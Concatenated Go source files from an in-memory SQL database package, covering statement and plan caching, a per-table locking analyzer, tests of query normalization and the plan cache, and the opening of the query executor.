	// DDL, trigger creation, and rollback, which all run on the
	// exclusive path.
	lockPlanMu sync.Mutex
	lockPlans  *lruCache[Stmt, lockPlanEntry]

	// Workload recording for the index advisor (prepare.go): while
	// recOn, every executed batch is counted under its canonical text.
	recOn   atomic.Bool
	recMu   sync.Mutex
	recWork map[string]*workloadStat

	// synthCache memoizes the SELECT synthesized for UPDATE/DELETE view
	// scans per (view, WHERE-expr) so it has a stable pointer and the
	// plan cache can do its job. Guarded by planMu; reset with planCache.
	synthCache map[synthKey]*SelectStmt

	// expandCache memoizes select-list expansion (* and t.*) per core;
	// validated records cores whose name resolution already checked out.
	// Both guarded by planMu and reset with planCache.
	expandCache map[*SelectCore]expandEntry
	validated   map[*SelectCore]struct{}

	// jrn holds the attached statement journal (journal.go); zero when
	// durability is off.
	jrn atomic.Value // journalBox
}

// expandEntry is a memoized select-list expansion. exprs are shared
// (ASTs are read-only during evaluation); cols are copied out on every
// use because FROM-subquery aliasing rewrites quals in place.
type expandEntry struct {
	cols  []colBinding
	exprs []Expr
}

// resetPlanCaches drops every planner memo (planned statements,
// synthesized view scans, select-list expansions, validation marks).
// Called on DDL and rollback, which run on the exclusive path.
func (db *DB) resetPlanCaches() {
	db.planMu.Lock()
	db.planCache.clear()
	db.synthCache = make(map[synthKey]*SelectStmt)
	db.expandCache = make(map[*SelectCore]expandEntry)
	db.validated = make(map[*SelectCore]struct{})
	db.planMu.Unlock()
}

// synthKey identifies a synthesized view-scan statement.
type synthKey struct {
	view  *view
	where Expr
}

// Open creates an empty database.
func Open() *DB {
	db := &DB{
		tables:      make(map[string]*table),
		views:       make(map[string]*view),
		triggers:    make(map[string][]*trigger),
		byName:      make(map[string]*trigger),
		synthCache:  make(map[synthKey]*SelectStmt),
		expandCache: make(map[*SelectCore]expandEntry),
		validated:   make(map[*SelectCore]struct{}),
	}
	db.rawStmts = newLRU[string, *prepared](maxCachedStmts, nil)
	db.normStmts = newLRU[string, []Stmt](maxCachedStmts, func(_ string, stmts []Stmt) {
		// Drop the evicted AST's downstream memos with it so the
		// pointer-keyed caches cannot accumulate entries for
		// unreachable statements. Runs with stmtMu held; stmtMu
		// precedes planMu and lockPlanMu in the lock order.
		db.planMu.Lock()
		for _, s := range stmts {
			if sel, ok := s.(*SelectStmt); ok {
				db.planCache.delete(sel)
			}
		}
		db.planMu.Unlock()
		if len(stmts) > 0 {
			db.lockPlanMu.Lock()
			db.lockPlans.delete(stmts[0])
			db.lockPlanMu.Unlock()
		}
	})
	db.planCache = newLRU[*SelectStmt, *SelectStmt](maxCachedStmts, nil)
	db.lockPlans = newLRU[Stmt, lockPlanEntry](maxCachedStmts, nil)
	return db
}

// maxCachedStmts bounds each statement-layer cache (raw texts,
// normalized ASTs, plans, lock plans); beyond it the least recently
// used entries are evicted.
const maxCachedStmts = 4096

// Stats returns a snapshot of planner statistics.
func (db *DB) Stats() Stats {
	return Stats{
		FlattenedQueries:  db.statFlattened.Load(),
		MaterializedViews: db.statMaterialize.Load(),
		SeqScans:          db.statSeqScan.Load(),
		PKProbes:          db.statPKProbe.Load(),
		IndexProbes:       db.statIdxProbe.Load(),
		PlanCacheHits:     db.statPlanHit.Load(),
		PlanCacheMisses:   db.statPlanMiss.Load(),
	}
}

// TableNames returns the names of all base tables, sorted.
func (db *DB) TableNames() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.tables))
	for _, t := range db.tables {
		out = append(out, t.name)
	}
	sort.Strings(out)
	return out
}

// ViewNames returns the names of all views, sorted.
func (db *DB) ViewNames() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.views))
	for _, v := range db.views {
		out = append(out, v.name)
	}
	sort.Strings(out)
	return out
}

// HasTable reports whether a base table with the given name exists.
func (db *DB) HasTable(name string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	_, ok := db.tables[strings.ToLower(name)]
	return ok
}

// HasView reports whether a view with the given name exists.
func (db *DB) HasView(name string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	_, ok := db.views[strings.ToLower(name)]
	return ok
}

// TableColumns returns the column definitions of a base table.
func (db *DB) TableColumns(name string) ([]ColumnDef, bool) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	t, ok := db.tables[strings.ToLower(name)]
	if !ok {
		return nil, false
	}
	cols := make([]ColumnDef, len(t.cols))
	copy(cols, t.cols)
	return cols, true
}

// Exec parses and executes one or more semicolon-separated statements,
// binding ? placeholders to args in order across the whole batch. The
// Result of the last statement is returned.
func (db *DB) Exec(sql string, args ...Value) (Result, error) {
	p, err := db.prepare(sql)
	if err != nil {
		return Result{}, err
	}
	return db.execPrepared(p, args)
}

// Query parses and executes a single SELECT statement.
func (db *DB) Query(sql string, args ...Value) (*Rows, error) {
	p, err := db.prepare(sql)
	if err != nil {
		return nil, err
	}
	return db.queryPrepared(p, args)
}

// QueryScalar runs a single-row, single-column query and returns the
// value (nil if no rows).
func (db *DB) QueryScalar(sql string, args ...Value) (Value, error) {
	rows, err := db.Query(sql, args...)
	if err != nil {
		return nil, err
	}
	if len(rows.Data) == 0 || len(rows.Data[0]) == 0 {
		return nil, nil
	}
	return rows.Data[0][0], nil
}

// LastInsertID returns the rowid of the most recent successful INSERT.
func (db *DB) LastInsertID() int64 {
	return db.lastID.Load()
}
