package sqldb

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Result reports the outcome of a data-modifying statement.
type Result struct {
	LastInsertID int64
	RowsAffected int64
}

// Rows is a fully materialized query result.
type Rows struct {
	Columns []string
	Data    [][]Value
}

// Stats counts planner decisions, used to verify the subquery-flattening
// behavior the paper's footnote 5 describes.
type Stats struct {
	FlattenedQueries  int64 // UNION ALL view queries flattened
	MaterializedViews int64 // view scans that had to materialize
}

// table is a base table with an optional integer primary key.
type table struct {
	name   string
	cols   []ColumnDef
	pk     int // index of PRIMARY KEY column, -1 if none
	rows   [][]Value
	byPK   map[int64]int // pk value -> index into rows
	nextID int64
}

func (t *table) colIndex(name string) int {
	for i, c := range t.cols {
		if strings.EqualFold(c.Name, name) {
			return i
		}
	}
	return -1
}

// clone deep-copies the table for transaction snapshots: row slices
// are copied because UPDATE mutates them in place.
func (t *table) clone() *table {
	out := &table{
		name:   t.name,
		cols:   t.cols,
		pk:     t.pk,
		rows:   make([][]Value, len(t.rows)),
		byPK:   make(map[int64]int, len(t.byPK)),
		nextID: t.nextID,
	}
	for i, r := range t.rows {
		row := make([]Value, len(r))
		copy(row, r)
		out.rows[i] = row
	}
	for k, v := range t.byPK {
		out.byPK[k] = v
	}
	return out
}

// reindex rebuilds byPK after structural changes.
func (t *table) reindex() {
	if t.pk < 0 {
		return
	}
	t.byPK = make(map[int64]int, len(t.rows))
	for i, r := range t.rows {
		if id, ok := AsInt(r[t.pk]); ok {
			t.byPK[id] = i
		}
	}
}

// view is a named stored SELECT.
type view struct {
	name string
	def  *SelectStmt
	cols []string // output column names, computed at creation
}

// trigger is an INSTEAD OF trigger on a view.
type trigger struct {
	name  string
	event string
	view  string
	body  []Stmt
}

// DB is an in-memory SQL database. All methods are safe for concurrent
// use; writers are serialized by a single lock, like SQLite.
type DB struct {
	mu       sync.RWMutex
	tables   map[string]*table
	views    map[string]*view
	triggers map[string][]*trigger // keyed by lowercase view name
	byName   map[string]*trigger   // keyed by lowercase trigger name
	lastID   int64
	stats    Stats

	// txn holds the active transaction's rollback snapshot, nil when
	// autocommitting. Guarded by mu.
	txn *txnSnapshot

	stmtMu    sync.RWMutex
	stmtCache map[string][]Stmt

	// planCache memoizes planner output per statement AST (ASTs are
	// stable thanks to stmtCache). Guarded by mu; cleared on DDL.
	planCache map[*SelectStmt]*SelectStmt
}

// Open creates an empty database.
func Open() *DB {
	return &DB{
		tables:    make(map[string]*table),
		views:     make(map[string]*view),
		triggers:  make(map[string][]*trigger),
		byName:    make(map[string]*trigger),
		stmtCache: make(map[string][]Stmt),
		planCache: make(map[*SelectStmt]*SelectStmt),
	}
}

// maxCachedStmts bounds the prepared-statement cache; beyond it the
// cache is reset (workloads with unbounded distinct SQL).
const maxCachedStmts = 4096

// parseCached parses SQL with memoization — the moral equivalent of
// SQLite's prepared-statement reuse, which real content providers rely
// on. Parsed ASTs are never mutated after parsing, so sharing is safe.
func (db *DB) parseCached(sql string) ([]Stmt, error) {
	db.stmtMu.RLock()
	stmts, ok := db.stmtCache[sql]
	db.stmtMu.RUnlock()
	if ok {
		return stmts, nil
	}
	stmts, err := parseAll(sql)
	if err != nil {
		return nil, err
	}
	db.stmtMu.Lock()
	if len(db.stmtCache) >= maxCachedStmts {
		db.stmtCache = make(map[string][]Stmt)
	}
	db.stmtCache[sql] = stmts
	db.stmtMu.Unlock()
	return stmts, nil
}

// Stats returns a snapshot of planner statistics.
func (db *DB) Stats() Stats {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.stats
}

// TableNames returns the names of all base tables, sorted.
func (db *DB) TableNames() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.tables))
	for _, t := range db.tables {
		out = append(out, t.name)
	}
	sort.Strings(out)
	return out
}

// ViewNames returns the names of all views, sorted.
func (db *DB) ViewNames() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.views))
	for _, v := range db.views {
		out = append(out, v.name)
	}
	sort.Strings(out)
	return out
}

// HasTable reports whether a base table with the given name exists.
func (db *DB) HasTable(name string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	_, ok := db.tables[strings.ToLower(name)]
	return ok
}

// HasView reports whether a view with the given name exists.
func (db *DB) HasView(name string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	_, ok := db.views[strings.ToLower(name)]
	return ok
}

// TableColumns returns the column definitions of a base table.
func (db *DB) TableColumns(name string) ([]ColumnDef, bool) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	t, ok := db.tables[strings.ToLower(name)]
	if !ok {
		return nil, false
	}
	cols := make([]ColumnDef, len(t.cols))
	copy(cols, t.cols)
	return cols, true
}

// Exec parses and executes one or more semicolon-separated statements,
// binding ? placeholders to args in order across the whole batch. The
// Result of the last statement is returned.
func (db *DB) Exec(sql string, args ...Value) (Result, error) {
	stmts, err := db.parseCached(sql)
	if err != nil {
		return Result{}, err
	}
	nargs := make([]Value, len(args))
	for i, a := range args {
		nargs[i] = normalize(a)
	}
	db.mu.Lock()
	defer db.mu.Unlock()
	ex := &executor{db: db, args: nargs}
	var res Result
	for _, s := range stmts {
		r, err := ex.execStmt(s, nil)
		if err != nil {
			return Result{}, err
		}
		res = r
	}
	return res, nil
}

// Query parses and executes a single SELECT statement.
func (db *DB) Query(sql string, args ...Value) (*Rows, error) {
	stmts, err := db.parseCached(sql)
	if err != nil {
		return nil, err
	}
	if len(stmts) != 1 {
		return nil, fmt.Errorf("sqldb: Query requires exactly one statement")
	}
	sel, ok := stmts[0].(*SelectStmt)
	if !ok {
		return nil, fmt.Errorf("sqldb: Query requires a SELECT statement")
	}
	nargs := make([]Value, len(args))
	for i, a := range args {
		nargs[i] = normalize(a)
	}
	db.mu.Lock() // write lock: planner updates stats; SQLite serializes too
	defer db.mu.Unlock()
	ex := &executor{db: db, args: nargs}
	return ex.execSelect(sel, nil)
}

// QueryScalar runs a single-row, single-column query and returns the
// value (nil if no rows).
func (db *DB) QueryScalar(sql string, args ...Value) (Value, error) {
	rows, err := db.Query(sql, args...)
	if err != nil {
		return nil, err
	}
	if len(rows.Data) == 0 || len(rows.Data[0]) == 0 {
		return nil, nil
	}
	return rows.Data[0][0], nil
}

// LastInsertID returns the rowid of the most recent successful INSERT.
func (db *DB) LastInsertID() int64 {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.lastID
}
