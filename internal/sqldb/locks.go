package sqldb

import (
	"sort"
	"strings"
)

// This file implements the per-table locking discipline (DESIGN.md
// "Locking model"). A batch of statements is statically analyzed into
// the set of base tables it reads and writes — expanding views to their
// base tables and INSTEAD OF triggers to their bodies — and the table
// locks are then acquired in sorted lowercase-name order, writes
// exclusive and reads shared, so two batches touching disjoint tables
// (e.g. two initiators' delta tables) run in parallel while batches on
// the same table keep SQLite's single-writer behavior. Anything the
// analyzer cannot fully resolve (DDL, transactions, unknown names)
// falls back to the DB-wide writer lock, as does every batch while a
// transaction is open (rollback restores a whole-database snapshot).

// LockStats is a snapshot of lock activity inside one DB, used to find
// remaining serialization points. Counters are cumulative since Open.
type LockStats struct {
	// TableAcquisitions counts per-table lock acquisitions (read or write).
	TableAcquisitions int64
	// TableBlocked counts table acquisitions that could not be satisfied
	// immediately (a TryLock failed and the caller had to wait).
	TableBlocked int64
	// ExclusiveBatches counts batches that fell back to the DB-wide
	// writer lock (DDL, transactions, unanalyzable statements).
	ExclusiveBatches int64
}

// LockStats returns a snapshot of the lock-contention counters.
func (db *DB) LockStats() LockStats {
	return LockStats{
		TableAcquisitions: db.tblAcq.Load(),
		TableBlocked:      db.tblBlocked.Load(),
		ExclusiveBatches:  db.exclusive.Load(),
	}
}

// lockPlan is the ordered table-lock acquisition plan for one batch.
type lockPlan struct {
	names []string        // sorted ascending (the deterministic order)
	write map[string]bool // subset of names locked exclusively
}

// batchLock is the token returned by lockForBatch: a non-nil plan
// means the shared-catalog + per-table fast path, nil the DB-wide
// writer lock. A plain value (not a closure) so the per-batch hot path
// does not allocate.
type batchLock struct {
	plan *lockPlan
}

// lockForBatch acquires the locks needed to execute stmts; release with
// unlockBatch. Fast path: catalog lock shared + per-table locks in name
// order. Slow path: the DB-wide writer lock.
func (db *DB) lockForBatch(stmts []Stmt) batchLock {
	db.mu.RLock()
	// An open transaction forces every batch onto the exclusive path:
	// its ROLLBACK swaps the whole catalog back to a snapshot, which no
	// table-granular reader may observe mid-swap. The check is stable
	// for the duration of the batch because BEGIN itself needs the
	// exclusive lock we are blocking by holding mu shared.
	if db.txn == nil {
		if plan, ok := db.analyze(stmts); ok {
			db.lockTables(plan)
			return batchLock{plan: plan}
		}
	}
	db.mu.RUnlock()
	db.exclusive.Add(1)
	db.mu.Lock()
	return batchLock{}
}

// unlockBatch releases whatever lockForBatch acquired.
func (db *DB) unlockBatch(l batchLock) {
	if l.plan != nil {
		db.unlockTables(l.plan)
		db.mu.RUnlock()
		return
	}
	db.mu.Unlock()
}

// lockTables acquires the planned table locks in sorted-name order.
// Caller holds db.mu shared, which pins the catalog (no DDL), so the
// table pointers cannot go stale while waiting.
func (db *DB) lockTables(p *lockPlan) {
	for _, name := range p.names {
		t := db.tables[name]
		db.tblAcq.Add(1)
		if p.write[name] {
			if !t.mu.TryLock() {
				db.tblBlocked.Add(1)
				t.mu.Lock()
			}
		} else {
			if !t.mu.TryRLock() {
				db.tblBlocked.Add(1)
				t.mu.RLock()
			}
		}
	}
}

// unlockTables releases the planned locks in reverse order.
func (db *DB) unlockTables(p *lockPlan) {
	for i := len(p.names) - 1; i >= 0; i-- {
		name := p.names[i]
		if p.write[name] {
			db.tables[name].mu.Unlock()
		} else {
			db.tables[name].mu.RUnlock()
		}
	}
}

// lockPlanEntry is a memoized analyze result; plan is nil when the
// batch is unanalyzable (ok=false).
type lockPlanEntry struct {
	plan *lockPlan
	ok   bool
}

// invalidateLockPlans drops all memoized lock plans. Called by DDL,
// trigger creation, and rollback — anything that changes which base
// tables a statement reaches. All callers hold db.mu exclusively.
func (db *DB) invalidateLockPlans() {
	db.lockPlanMu.Lock()
	db.lockPlans.clear()
	db.lockPlanMu.Unlock()
}

// analyze computes the read/write base-table sets of a batch. The
// second return is false when the batch cannot be fully resolved and
// must take the exclusive path. Caller holds db.mu (shared suffices).
// Results are memoized per batch: the statement caches hand out stable
// ASTs, so the first statement identifies the batch.
func (db *DB) analyze(stmts []Stmt) (*lockPlan, bool) {
	var key Stmt
	if len(stmts) > 0 {
		key = stmts[0]
	}
	if key != nil {
		db.lockPlanMu.Lock()
		e, hit := db.lockPlans.get(key)
		db.lockPlanMu.Unlock()
		if hit {
			return e.plan, e.ok
		}
	}
	plan, ok := db.analyzeUncached(stmts)
	if key != nil {
		db.lockPlanMu.Lock()
		db.lockPlans.put(key, lockPlanEntry{plan: plan, ok: ok})
		db.lockPlanMu.Unlock()
	}
	return plan, ok
}

func (db *DB) analyzeUncached(stmts []Stmt) (*lockPlan, bool) {
	c := &tableSetCollector{
		db:    db,
		read:  map[string]bool{},
		write: map[string]bool{},
		ok:    true,
	}
	for _, s := range stmts {
		c.stmt(s)
	}
	if !c.ok {
		return nil, false
	}
	plan := &lockPlan{write: c.write}
	for name := range c.write {
		plan.names = append(plan.names, name)
	}
	for name := range c.read {
		if !c.write[name] {
			plan.names = append(plan.names, name)
		}
	}
	sort.Strings(plan.names)
	return plan, true
}

// tableSetCollector walks statement ASTs accumulating base-table
// read/write sets. Views are expanded recursively (reads through their
// definitions, writes through their INSTEAD OF trigger bodies); the
// memo sets keep cyclic or repeated references from re-expanding.
type tableSetCollector struct {
	db           *DB
	read         map[string]bool
	write        map[string]bool
	viewsRead    map[string]bool
	viewsWritten map[string]bool
	ok           bool
}

func (c *tableSetCollector) stmt(s Stmt) {
	if !c.ok {
		return
	}
	switch st := s.(type) {
	case *SelectStmt:
		c.sel(st)
	case *InsertStmt:
		c.writeTarget(st.Table)
		for _, row := range st.Rows {
			for _, e := range row {
				c.expr(e)
			}
		}
		c.sel(st.Select)
	case *UpdateStmt:
		c.writeTarget(st.Table)
		for _, a := range st.Set {
			c.expr(a.Expr)
		}
		c.expr(st.Where)
	case *DeleteStmt:
		c.writeTarget(st.Table)
		c.expr(st.Where)
	default:
		// DDL, TxnStmt, anything new: exclusive path.
		c.ok = false
	}
}

// writeTarget records the target of an INSERT/UPDATE/DELETE. A view
// target reads the view (UPDATE/DELETE scan it for matching rows) and
// executes its trigger bodies.
func (c *tableSetCollector) writeTarget(name string) {
	if !c.ok {
		return
	}
	key := strings.ToLower(name)
	if t, ok := c.db.tables[key]; ok {
		c.write[key] = true
		// Column defaults are evaluated on insert and may, in principle,
		// contain subqueries.
		for _, col := range t.cols {
			c.expr(col.Default)
		}
		return
	}
	if _, ok := c.db.views[key]; ok {
		if c.viewsWritten == nil {
			c.viewsWritten = map[string]bool{}
		}
		if c.viewsWritten[key] {
			return
		}
		c.viewsWritten[key] = true
		c.readView(key)
		for _, tr := range c.db.triggers[key] {
			for _, body := range tr.body {
				c.stmt(body)
			}
		}
		return
	}
	// Unknown target: the executor will fail the batch anyway; take the
	// exclusive path so the error surfaces from a single code path.
	c.ok = false
}

func (c *tableSetCollector) readRef(name string) {
	key := strings.ToLower(name)
	if _, ok := c.db.tables[key]; ok {
		c.read[key] = true
		return
	}
	if _, ok := c.db.views[key]; ok {
		c.readView(key)
		return
	}
	c.ok = false
}

func (c *tableSetCollector) readView(key string) {
	if c.viewsRead == nil {
		c.viewsRead = map[string]bool{}
	}
	if c.viewsRead[key] {
		return
	}
	c.viewsRead[key] = true
	c.sel(c.db.views[key].def)
}

func (c *tableSetCollector) sel(s *SelectStmt) {
	if s == nil || !c.ok {
		return
	}
	for _, core := range s.Cores {
		if core.From != nil {
			c.ref(*core.From)
		}
		for _, j := range core.Joins {
			c.ref(j.Ref)
			c.expr(j.On)
		}
		for _, rc := range core.Cols {
			c.expr(rc.Expr)
		}
		c.expr(core.Where)
		for _, g := range core.GroupBy {
			c.expr(g)
		}
		c.expr(core.Having)
	}
	for _, t := range s.OrderBy {
		c.expr(t.Expr)
	}
	c.expr(s.Limit)
	c.expr(s.Offset)
}

func (c *tableSetCollector) ref(r TableRef) {
	if r.Sub != nil {
		c.sel(r.Sub)
		return
	}
	if r.Name != "" {
		c.readRef(r.Name)
	}
}

func (c *tableSetCollector) expr(e Expr) {
	if e == nil || !c.ok {
		return
	}
	switch x := e.(type) {
	case *Lit, *Param, *ColRef:
	case *Unary:
		c.expr(x.X)
	case *Binary:
		c.expr(x.L)
		c.expr(x.R)
	case *InExpr:
		c.expr(x.X)
		for _, le := range x.List {
			c.expr(le)
		}
		c.sel(x.Sub)
	case *IsNull:
		c.expr(x.X)
	case *Between:
		c.expr(x.X)
		c.expr(x.Lo)
		c.expr(x.Hi)
	case *Call:
		for _, a := range x.Args {
			c.expr(a)
		}
	case *SubqueryExpr:
		c.sel(x.Select)
	case *ExistsExpr:
		c.sel(x.Select)
	case *CaseExpr:
		c.expr(x.Operand)
		for _, w := range x.Whens {
			c.expr(w.Cond)
			c.expr(w.Result)
		}
		c.expr(x.Else)
	default:
		c.ok = false
	}
}
