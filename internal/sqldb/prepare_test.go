package sqldb

import (
	"fmt"
	"strings"
	"testing"
)

func preparePopulated(t *testing.T) *DB {
	t.Helper()
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, a INTEGER, b TEXT)")
	for i := 1; i <= 10; i++ {
		mustExec(t, db, fmt.Sprintf("INSERT INTO t (a, b) VALUES (%d, 'row%d')", i, i))
	}
	return db
}

// TestPlanCacheHitAcrossLiterals is the regression test for the old
// pointer-keyed plan cache: the same SQL text with different literals
// must share one AST and hit the plan cache, while still returning
// the rows its own literals select.
func TestPlanCacheHitAcrossLiterals(t *testing.T) {
	db := preparePopulated(t)

	rows, err := db.Query("SELECT b FROM t WHERE a = 3")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows.Data) != 1 || rows.Data[0][0] != "row3" {
		t.Fatalf("a=3 returned %v", rows.Data)
	}
	before := db.Stats()

	rows, err = db.Query("SELECT b FROM t WHERE a = 7")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows.Data) != 1 || rows.Data[0][0] != "row7" {
		t.Fatalf("a=7 returned %v (literal must bind per raw text)", rows.Data)
	}
	after := db.Stats()
	if after.PlanCacheHits <= before.PlanCacheHits {
		t.Errorf("plan cache hits %d -> %d; distinct literals missed the cache",
			before.PlanCacheHits, after.PlanCacheHits)
	}
	if after.PlanCacheMisses != before.PlanCacheMisses {
		t.Errorf("plan cache misses %d -> %d; second literal re-planned",
			before.PlanCacheMisses, after.PlanCacheMisses)
	}
}

// TestNormalizationSharesAST verifies the statement layer converges
// distinct literal spellings (and whitespace) onto one AST entry.
func TestNormalizationSharesAST(t *testing.T) {
	db := preparePopulated(t)
	queries := []string{
		"SELECT a FROM t WHERE b = 'row1'",
		"SELECT a FROM t WHERE b = 'row2'",
		"SELECT  a  FROM  t  WHERE  b = 'row3'",
	}
	for _, q := range queries {
		if _, err := db.Query(q); err != nil {
			t.Fatal(err)
		}
	}
	db.stmtMu.Lock()
	var asts []*prepared
	for _, q := range queries {
		p, ok := db.rawStmts.get(q)
		if !ok {
			t.Fatalf("raw cache lost %q", q)
		}
		asts = append(asts, p)
	}
	db.stmtMu.Unlock()
	for i := 1; i < len(asts); i++ {
		if asts[i].stmts[0] != asts[0].stmts[0] {
			t.Errorf("query %d did not share the normalized AST", i)
		}
	}
}

// TestNormalizationPreservesOrdinals: integers in ORDER BY and GROUP
// BY are output-column ordinals and must not become parameters.
func TestNormalizationPreservesOrdinals(t *testing.T) {
	db := preparePopulated(t)
	asc, err := db.Query("SELECT a, b FROM t ORDER BY 1 LIMIT 1")
	if err != nil {
		t.Fatal(err)
	}
	desc, err := db.Query("SELECT a, b FROM t ORDER BY 1 DESC LIMIT 1")
	if err != nil {
		t.Fatal(err)
	}
	if a, _ := AsInt(asc.Data[0][0]); a != 1 {
		t.Errorf("ORDER BY 1 first row a=%v, want 1", asc.Data[0][0])
	}
	if a, _ := AsInt(desc.Data[0][0]); a != 10 {
		t.Errorf("ORDER BY 1 DESC first row a=%v, want 10", desc.Data[0][0])
	}
	// LIMIT literals, by contrast, are safe to parameterize; distinct
	// limits must still bind per raw text.
	two, err := db.Query("SELECT a FROM t LIMIT 2")
	if err != nil {
		t.Fatal(err)
	}
	five, err := db.Query("SELECT a FROM t LIMIT 5")
	if err != nil {
		t.Fatal(err)
	}
	if len(two.Data) != 2 || len(five.Data) != 5 {
		t.Errorf("LIMIT 2/5 returned %d/%d rows", len(two.Data), len(five.Data))
	}
}

// TestNormalizationSkipsCreate: literals in CREATE statements (column
// DEFAULTs, trigger bodies) must survive in the catalog.
func TestNormalizationSkipsCreate(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE d (_id INTEGER PRIMARY KEY, v INTEGER DEFAULT 42, s TEXT DEFAULT 'x')")
	mustExec(t, db, "INSERT INTO d (_id) VALUES (1)")
	row, err := db.Query("SELECT v, s FROM d")
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := AsInt(row.Data[0][0]); v != 42 || row.Data[0][1] != "x" {
		t.Errorf("DEFAULT literals lost in normalization: got %v", row.Data[0])
	}
}

// TestNormalizationLeavesUserParams: statements the caller already
// parameterized bypass normalization, and argument-count errors keep
// referring to the caller's placeholders.
func TestNormalizationLeavesUserParams(t *testing.T) {
	db := preparePopulated(t)
	rows, err := db.Query("SELECT b FROM t WHERE a = ?", int64(4))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows.Data) != 1 || rows.Data[0][0] != "row4" {
		t.Fatalf("user param query returned %v", rows.Data)
	}
	_, err = db.Query("SELECT b FROM t WHERE a = ?")
	if err == nil || !strings.Contains(err.Error(), "missing argument for placeholder") {
		t.Errorf("missing arg error = %v", err)
	}
}

// TestPreparedStmtReuse exercises the explicit Prepare API.
func TestPreparedStmtReuse(t *testing.T) {
	db := preparePopulated(t)
	st, err := db.Prepare("SELECT b FROM t WHERE a = ?")
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i <= 10; i++ {
		rows, err := st.Query(int64(i))
		if err != nil {
			t.Fatal(err)
		}
		if len(rows.Data) != 1 || rows.Data[0][0] != fmt.Sprintf("row%d", i) {
			t.Fatalf("prepared a=%d returned %v", i, rows.Data)
		}
	}
	ins, err := db.Prepare("INSERT INTO t (a, b) VALUES (?, ?)")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ins.Exec(int64(11), "row11"); err != nil {
		t.Fatal(err)
	}
	n, err := db.QueryScalar("SELECT COUNT(*) FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if c, _ := AsInt(n); c != 11 {
		t.Errorf("count after prepared insert = %v, want 11", n)
	}
}

// TestNormalizedLiteralsDriveIndexProbes: extracted literals bind as
// parameters, and the access-path layer must still use them for index
// probes (constValue evaluates Params).
func TestNormalizedLiteralsDriveIndexProbes(t *testing.T) {
	db := preparePopulated(t)
	mustExec(t, db, "CREATE INDEX t_a ON t (a)")
	before := db.Stats()
	rows, err := db.Query("SELECT b FROM t WHERE a = 6")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows.Data) != 1 || rows.Data[0][0] != "row6" {
		t.Fatalf("indexed lookup returned %v", rows.Data)
	}
	after := db.Stats()
	if after.IndexProbes != before.IndexProbes+1 {
		t.Errorf("index probes %d -> %d; normalized literal did not drive the probe",
			before.IndexProbes, after.IndexProbes)
	}
}

// TestWorkloadRecording verifies aggregation by normalized text and
// the indexable-column analysis the advisor consumes.
func TestWorkloadRecording(t *testing.T) {
	db := preparePopulated(t)
	db.StartWorkloadRecording()
	for i := 0; i < 5; i++ {
		if _, err := db.Query(fmt.Sprintf("SELECT b FROM t WHERE a = %d", i+1)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := db.Query("SELECT b FROM t WHERE a >= 2 AND a <= 4"); err != nil {
		t.Fatal(err)
	}
	work := db.StopWorkloadRecording()
	if len(work) != 2 {
		t.Fatalf("recorded %d entries, want 2: %+v", len(work), work)
	}
	top := work[0]
	if top.Count != 5 {
		t.Errorf("top entry count = %d, want 5", top.Count)
	}
	if !strings.Contains(top.SQL, "a = ?") {
		t.Errorf("top entry not normalized: %q", top.SQL)
	}
	if !strings.EqualFold(top.Table, "t") || len(top.EqCols) != 1 || !strings.EqualFold(top.EqCols[0], "a") {
		t.Errorf("top entry analysis = table %q eq %v", top.Table, top.EqCols)
	}
	rangeEntry := work[1]
	if len(rangeEntry.RangeCols) != 1 || !strings.EqualFold(rangeEntry.RangeCols[0], "a") {
		t.Errorf("range entry analysis = %+v", rangeEntry)
	}
	// Recording is off again: nothing further accumulates.
	if _, err := db.Query("SELECT b FROM t WHERE a = 1"); err != nil {
		t.Fatal(err)
	}
	if again := db.StopWorkloadRecording(); len(again) != 0 {
		t.Errorf("recording continued after stop: %+v", again)
	}
}
