package sqldb

import (
	"fmt"
	"strconv"
	"strings"

	"maxoid/internal/fault"
)

// colBinding names one column of a relation, optionally qualified by a
// table alias.
type colBinding struct {
	qual string
	name string
}

// relation is a materialized intermediate result.
type relation struct {
	cols []colBinding
	rows [][]Value
}

// scope binds column names to values for expression evaluation; scopes
// nest for correlated subqueries and trigger NEW/OLD rows.
type scope struct {
	parent *scope
	cols   []colBinding
	row    []Value
}

// lookup finds a column value by (qualifier, name). The boolean reports
// whether the name resolved anywhere in the scope chain.
func (sc *scope) lookup(qual, name string) (Value, bool) {
	for s := sc; s != nil; s = s.parent {
		for i, b := range s.cols {
			if qual != "" && !strings.EqualFold(b.qual, qual) {
				continue
			}
			if strings.EqualFold(b.name, name) {
				return s.row[i], true
			}
		}
	}
	return nil, false
}

// executor runs statements against a DB. The DB lock is held by the
// caller for the duration of a batch.
type executor struct {
	db   *DB
	args []Value

	// inCache memoizes the value sets of non-correlated IN subqueries
	// so WHERE clauses like "_id NOT IN (SELECT _id FROM delta)" — the
	// COW view's shape — evaluate the subquery once per statement, as
	// SQLite does, instead of once per candidate row. The cache is
	// invalidated by any table mutation (triggers can write mid-query).
	inCache    map[*InExpr]map[string]bool
	correlated map[*InExpr]bool

	// sc holds the per-statement scratch arenas; argsBuf is the reusable
	// backing for bound arguments. Both survive pooling (see scratch.go).
	sc      scratch
	argsBuf []Value
}

// invalidateInCache drops memoized subquery results after a mutation.
